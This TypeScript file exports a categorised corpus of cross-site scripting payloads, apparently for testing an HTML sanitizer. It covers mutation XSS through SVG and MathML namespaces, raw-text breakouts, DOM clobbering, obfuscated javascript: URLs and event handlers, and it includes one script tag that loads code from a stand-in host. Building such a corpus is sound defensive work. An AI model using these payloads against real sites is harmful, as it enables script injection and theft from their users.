/*
 * Attacks of every known kind, by kind, written or assembled here.
 */

const HANDLER = 'onerror=alert(1)';
const IMAGE = `<img src=x ${HANDLER}>`;

/** Mutation through namespaces: text or an attribute in one parse becomes an element in the next. */
function namespaces(): string[] {
  const payloads: string[] = [];
  const outer = ['svg', 'math'];
  const points = [
    'desc',
    'title',
    'foreignObject',
    'mi',
    'mtext',
    'annotation-xml',
    'annotation-xml encoding=text/html',
    'annotation-xml encoding=application/xhtml+xml',
    'mglyph',
    'malignmark',
  ];
  const raw = ['style', 'title', 'textarea', 'noscript', 'xmp', 'iframe', 'noembed', 'noframes', 'script'];
  for (const root of outer) {
    for (const point of points) {
      const end = point.split(' ')[0];
      payloads.push(`<${root}><${point}>${IMAGE}</${end}></${root}>`);
      payloads.push(`<${root}><${point}><style><a title="</style>${IMAGE}"></${end}></${root}>`);
      payloads.push(`<form><${root}><${point}></form><form><mglyph><style></${root}>${IMAGE}`);
      payloads.push(`<${root}></p><${point}><style><!--</style>${IMAGE}-->`);
    }
    for (const name of raw) {
      payloads.push(`<${root}><${name}><a id="</${name}>${IMAGE}"></${root}>`);
      payloads.push(`<${root}><${name}>${IMAGE}</${name}></${root}>`);
      payloads.push(`<${root}><mtext><${name}><!--</${name}>${IMAGE}--></${root}>`);
    }
  }
  payloads.push(
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ${HANDLER}&gt;">`,
    `<math><mtext><mglyph><svg><mtext><style><a title="</style>${IMAGE}"></a></style>`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>${IMAGE}">`,
    `<svg><p><style><g title="</style>${IMAGE}">`,
    `<math><mi><table><mi><style><!--</style>${IMAGE}-->`,
    '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
    '<math><annotation-xml><![CDATA[<a title="]]><img src=x onerror=alert(1)>">]]></annotation-xml></math>',
    `<svg><font color=x><style><a id="</style>${IMAGE}"></a></style></svg>`,
    '<svg><a xlink:href="javascript:alert(1)"><text y=1em>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<math href="javascript:alert(1)">x</math><math xlink:href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#http://e.example" xlink:href="javascript:alert(1)">x</maction></math>',
  );
  return payloads;
}

/** Raw text and RCDATA: what ends it, and what does not. */
function rawText(): string[] {
  const names = [
    ...[
      'style',
      'noscript',
      'title',
      'xmp',
      'iframe',
      'noembed',
      'noframes',
      'plaintext',
      'textarea',
      'script',
    ],
    ...['select', 'option', 'template'],
  ];
  return names.flatMap((name) => [
    `<${name}>${IMAGE}</${name}>`,
    `<${name}><p id="</${name}>${IMAGE}"></${name}>`,
    `<${name}><!--</${name}>${IMAGE}--></${name}>`,
    `<${name}/>${IMAGE}`,
    `<${name}><${name}>${IMAGE}</${name}>`,
    `<p><${name}></p>${IMAGE}<${name}>`,
    `<div title="</${name}>${IMAGE}"><${name}></div>`,
    `<!--><${name}>--><b>${IMAGE}</${name}>`,
  ]);
}

function tables(): string[] {
  const parts = ['table', 'caption', 'colgroup', 'col', 'tbody', 'tr', 'td', 'th'];
  return parts.flatMap((part) => [
    `<${part}>${IMAGE}</${part}>`,
    `<table><${part}>${IMAGE}<script>alert(1)</script></${part}></table>`,
    `<table><${part}><style><a title="</style>${IMAGE}"></${part}></table>`,
    `<a href="javascript:alert(1)"><table><${part}><a href=x>y</a></table></a>`,
    `<table background="javascript:alert(1)"><${part} background="javascript:alert(2)">x`,
    `<form><table><${part}><form><svg><style></form>${IMAGE}`,
  ]);
}

function templates(): string[] {
  return [
    `<template>${IMAGE}</template>`,
    `<template><template>${IMAGE}</template></template>`,
    `<template><script>alert(1)</script><p onclick=alert(1)>x</p></template>`,
    `<div><template shadowrootmode=open>${IMAGE}</template></div>`,
    `<div><template shadowroot=open><script>alert(1)</script></template></div>`,
    `<template><style><a title="</style>${IMAGE}"></template>`,
    `<template><tr><td>${IMAGE}</template>`,
    `<svg><template>${IMAGE}</template></svg>`,
    `<template><svg><desc><template>${IMAGE}</template>`,
    `<template><noscript><p id="</noscript>${IMAGE}"></noscript></template>`,
    `<table><template><tr>${IMAGE}</template></table>`,
    `<select><template>${IMAGE}</template></select>`,
    `<template></template>${IMAGE}</template>`,
    `<template id=t><b>{{constructor.constructor("alert(1)")()}}</b></template>`,
  ];
}

/** Names that would hide properties of the document or of a form. */
const clobbering = [
  ...[
    'attributes',
    'nodeName',
    'nodeType',
    'parentNode',
    'childNodes',
    'firstChild',
    'textContent',
    'innerHTML',
  ],
  ...[
    'removeChild',
    'removeAttribute',
    'setAttribute',
    'insertBefore',
    'hasChildNodes',
    'namespaceURI',
    'getAttribute',
  ],
  ...[
    'cookie',
    'body',
    'head',
    'forms',
    'getElementById',
    'createElement',
    'implementation',
    'location',
    'write',
  ],
  ...[
    'defaultView',
    'documentElement',
    'currentScript',
    'addEventListener',
    'onclick',
    'action',
    'method',
    'submit',
  ],
  ...[
    'elements',
    'length',
    'title',
    'style',
    'ownerDocument',
    '__proto__',
    'constructor',
    'toString',
    'valueOf',
    'hasOwnProperty',
  ],
];

function clobberings(): string[] {
  return clobbering.flatMap((name) => [
    `<form><input name=${name}></form>`,
    `<form id=${name}><input id=${name} onfocus=alert(1) autofocus></form>`,
    `<img name=${name}><a id=${name} href="cid:x">y</a><a id=${name} name=href href="javascript:alert(1)">z</a>`,
  ]);
}

function animations(): string[] {
  const elements = ['animate', 'set', 'animateTransform', 'animateMotion'];
  return elements.flatMap((name) => [
    `<svg><a><${name} attributeName=href values="javascript:alert(1)" /><text>x</text></a></svg>`,
    `<svg><a><${name} attributeName=xlink:href to="javascript:alert(1)" /><text>x</text></a></svg>`,
    `<svg><${name} onbegin=alert(1) attributeName=x dur=1s></svg>`,
    `<svg><${name} href=#x attributeName="h&#114;ef" from="javascript:alert(1)" to=1 /><a id=x><text>y</text></a></svg>`,
  ]);
}

/** `javascript:` in all places, in all spellings. */
function urls(): string[] {
  const spellings = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '&#1;javascript:alert(1)',
    'java&#9;script:alert(1)',
    'java&#10;script:alert(1)',
    'java&#13;script:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A&#x61&#x76&#x61script:alert(1)',
    'javascript&colon;alert(1)',
    'java&Tab;script&colon;alert(1)',
    'java&NewLine;script:alert(1)',
    'jav\u0000ascript:alert(1)',
    'javascript\u00a0:alert(1)',
    '\u2028javascript:alert(1)',
    '%6aavascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'feed:javascript:alert(1)',
    'view-source:javascript:alert(1)',
    'x:javascript:alert(1)',
  ];
  const places = [
    'a href',
    'area href',
    'img src',
    'form action',
    'button formaction',
    'video poster',
    'iframe src',
  ];
  return places.flatMap((place) => {
    const [name, attribute] = place.split(' ');
    return spellings.map((url) => `<${name} ${attribute}="${url}">x</${name}>`);
  });
}

function attributes(): string[] {
  const names = [
    'onclick',
    'ONLOAD',
    'onerror',
    'ontoggle',
    'onfocusin',
    'onbeforetoggle',
    'onanimationstart',
    'onx',
  ];
  return names.flatMap((name) => [
    `<p ${name}=alert(1)>x</p>`,
    `<p/${name}=alert(1)/>x`,
    `<p a="b"${name}="alert(1)">x`,
    `<p ${name}\u0000=alert(1)>x`,
    `<details open ${name}=alert(1)>x</details>`,
    `<svg ${name}=alert(1)><g ${name}=alert(2)>`,
    `<custom-element ${name}=alert(1) is=x>x</custom-element>`,
  ]);
}

function others(): string[] {
  return [
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>script>alert(1)</script>',
    '<script src=//e.example/x.js></script x>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--!><img src=x onerror=alert(1)>--!>',
    '<!-- --!><img src=x onerror=alert(1)>-->',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<?php echo "<img src=x onerror=alert(1)>" ?>',
    '<?xml-stylesheet href="javascript:alert(1)"?><b>x</b>',
    '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]><b>&y;</b>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<base href="javascript:alert(1)//"><a href=x>y</a>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><b>x</b>',
    '<link rel=stylesheet href="javascript:alert(1)"><b>x</b>',
    '<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object>',
    '<b style="background:url(javascript:alert(1))">x</b>',
    '<b style="x:expression(alert(1))">x</b>',
    '<a href="//e.example" target=_blank rel=opener>x</a>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)">',
    '<keygen autofocus onfocus=alert(1)>',
    '<portal src="javascript:alert(1)"></portal>',
    '<image src=x onerror=alert(1)>',
    '<body onload=alert(1) background="javascript:alert(1)">x',
    '<html onload=alert(1)><head><title>x</title></head><b>y',
    '<p id=x><p id=x><div is=x-y>z</div>',
    '<a href="https://e.example" ping="javascript:alert(1)" download>x</a>',
    '<label for=x><input id=x type=image src="javascript:alert(1)"></label>',
    '<p lang="</p><img src=x onerror=alert(1)>">x</p>',
    '<p title="<!--">x</p><p title="--><img src=x onerror=alert(1)>">y</p>',
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
    '<b>x</b'.repeat(40),
    `${'<div>'.repeat(300)}${IMAGE}`,
    `${'<b><i>'.repeat(40)}x${'</b></i>'.repeat(40)}`,
  ];
}

/** All payloads, by kind. */
export const attackPayloads: Readonly<Record<string, readonly string[]>> = {
  namespaces: namespaces(),
  'raw text': rawText(),
  tables: tables(),
  templates: templates(),
  clobbering: clobberings(),
  animation: animations(),
  URLs: urls(),
  attributes: attributes(),
  others: others(),
};
